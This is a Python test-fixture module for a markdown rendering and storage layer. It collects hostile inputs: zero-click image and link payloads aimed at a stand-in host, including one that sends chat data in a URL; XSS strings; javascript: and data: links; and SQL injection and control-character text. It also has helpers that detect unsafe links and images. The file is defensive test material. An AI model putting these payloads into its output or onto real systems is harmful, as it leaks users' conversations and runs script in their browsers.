"""Hostile text, shared by the rendering, store and page tests."""

from __future__ import annotations

from markdown_it import MarkdownIt

from core.markdown import is_safe_url

MEGABYTE = 1_000_000


def fetching_payloads(base: str) -> dict[str, str]:
    """name -> an answer that tries to make the browser fetch from `base` with
    no click: the classes an outside audit got through a regex scanner, and
    their neighbours. Each uses its own path, so a request names its payload."""
    return {
        "code span across a blank line": f"Look: `code\n\n![p]({base}/span-blank.png) end`",
        "backslash before closing backtick": f"`a\\` ![p]({base}/backslash.png) `",
        "fence closing with its list item": (
            f"- item\n  ```\n  code\n- ![p]({base}/list-fence.png)\n```"
        ),
        "lone CR line ends": f"text\r```\r![p]({base}/lone-cr.png)\r```\r",
        "lone CR around a fence": f"```\rcode\r```\r![p]({base}/lone-cr-2.png)",
        "reference image": f"![p][r]\n\n[r]: {base}/ref-full.png",
        "shortcut reference image": f"![r]\n\n[r]: <{base}/ref-short.png> 'title'",
        "collapsed reference image": f"![r][]\n\n[R]:\n  {base}/ref-collapsed.png",
        "data link after a fake fence": "``` a`b\n[x](data:text/html;base64,PHNjcmlwdD4=)\n```",
        "data link after an indented fence": "    ```\n[x](data:text/html,<b>x</b>)\n```",
        "data reference in a tilde chunk": (
            "~~~\n~~~~ x\n[d]\n\n[d]: data:image/png;base64,iVBORw0KGgo="
        ),
        "raw img": f'<img src="{base}/raw-img.png">',
        "raw html block": f"<div>\n<img src={base}/raw-block.png>\n</div>",
        "raw picture": f'<picture><source srcset="{base}/srcset.png"></picture>',
        "raw video poster": f"<video poster={base}/poster.png></video>",
        "raw stylesheet": f"<link rel=stylesheet href={base}/style.css>",
        "raw style url": f'<p style="background:url({base}/style-url.png)">x</p>',
        "raw svg image": f'<svg><image href="{base}/svg.png"/></svg>',
        "raw input image": f"<input type=image src={base}/input.png>",
        "http autolink": f"<{base}/autolink.png>",
        "data autolink": "<data:text/html,<script>alert(1)</script>>",
        "entity bang": f"&#33;[p]({base}/entity-bang.png)",
        "entity in destination": f"![p]({base}&#47;entity-dest.png)",
        "entity data scheme": "[x](&#100;ata:text/html,x)",
        "zero width before bracket": f"!\u200b[p]({base}/zw.png)",
        "zero width in scheme": "[x](java\u200bscript:alert(1))",
        "bom in image": f"\ufeff![p]({base}/bom.png)",
        "latex includegraphics": f"$\\includegraphics{{{base}/tex.png}}$",
        "latex href block": f"$$\n\\href{{{base}/tex-href}}{{x}}\n$$",
        "latex url bracket": f"\\(\\url{{{base}/tex-url}}\\)",
        "math hiding an image": f"$x ![p]({base}/in-math.png) y$",
        "image inside a link": f"[![p]({base}/nested.png)]({base}/nested)",
        "image in a table": f"| a |\n|---|\n| ![p]({base}/table.png) |",
        "image in a quote list": f"> 1. ![p]({base}/quote.png)",
        "image in a heading": f"Title ![p]({base}/setext.png)\n===",
    }


# name -> text a person could paste or a model could answer with.
HOSTILE = {
    **fetching_payloads("https://evil.example"),
    "script tag": "<script>alert(document.cookie)</script> hello",
    "img onerror": '<img src=x onerror="alert(1)">',
    "svg onload": "<svg/onload=alert(1)>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "javascript link": "[click me](javascript:alert(1))",
    "entity javascript link": "[click](&#106;avascript:alert(1))",
    "tab javascript link": "[click](<java\tscript:alert(1)>)",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript reference": "[click][x]\n\n[x]: javascript:alert(1)",
    "data link": "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript link": "[vb](vbscript:msgbox(1))",
    "remote image": "![pixel](https://evil.example/collect?chat=secret)",
    "html in markdown": "**bold <b onmouseover=alert(1)>x</b>** and <a href='javascript:x'>a</a>",
    "katex href": r"$\href{javascript:alert(1)}{click}$",
    "sql": "'; DROP TABLE messages; -- \" OR 1=1 --",
    "fts": 'NEAR(a b) "unbalanced * ^col:x OR AND NOT -',
    "nul": "before\x00after",
    "lone surrogate": "broken \ud800 text",
    "controls": "bell\x07 backspace\x08 escape\x1b[31m red \x7f",
    "rtl override": "user\u202egpj.exe and \u2066isolate\u2069",
    "emoji": "family 👨‍👩‍👧‍👦 flag 🇨🇳 skin 👍🏽",
    "zero width": "zero\u200bwidth\ufeffjoiner",
    "megabyte": ("lorem ipsum dolor sit amet, " * (MEGABYTE // 28 + 1))[:MEGABYTE],
    "megabyte of markup": ("> *a* `b` [c](javascript:d) ![e](f) \\[ $1 \n" * (MEGABYTE // 40))[
        :MEGABYTE
    ],
}


def _tokens(markdown: str):
    """Every token the browser's parser (CommonMark + GFM tables, as markdown-it-py
    reads it) finds in `markdown`, inline ones included."""
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    parser.validateLink = lambda url: True  # see every link, whatever its scheme
    for token in parser.parse(markdown):
        yield token
        yield from token.children or []


def live_unsafe_links(markdown: str) -> list[str]:
    """Links, autolinks or reference links to anything but http(s)/mailto."""
    return [
        str(token.attrs.get("href"))[:40]
        for token in _tokens(markdown)
        if token.type == "link_open" and not is_safe_url(str(token.attrs.get("href", "")))
    ]


def live_images(markdown: str) -> list[str]:
    return [str(token.attrs.get("src")) for token in _tokens(markdown) if token.type == "image"]
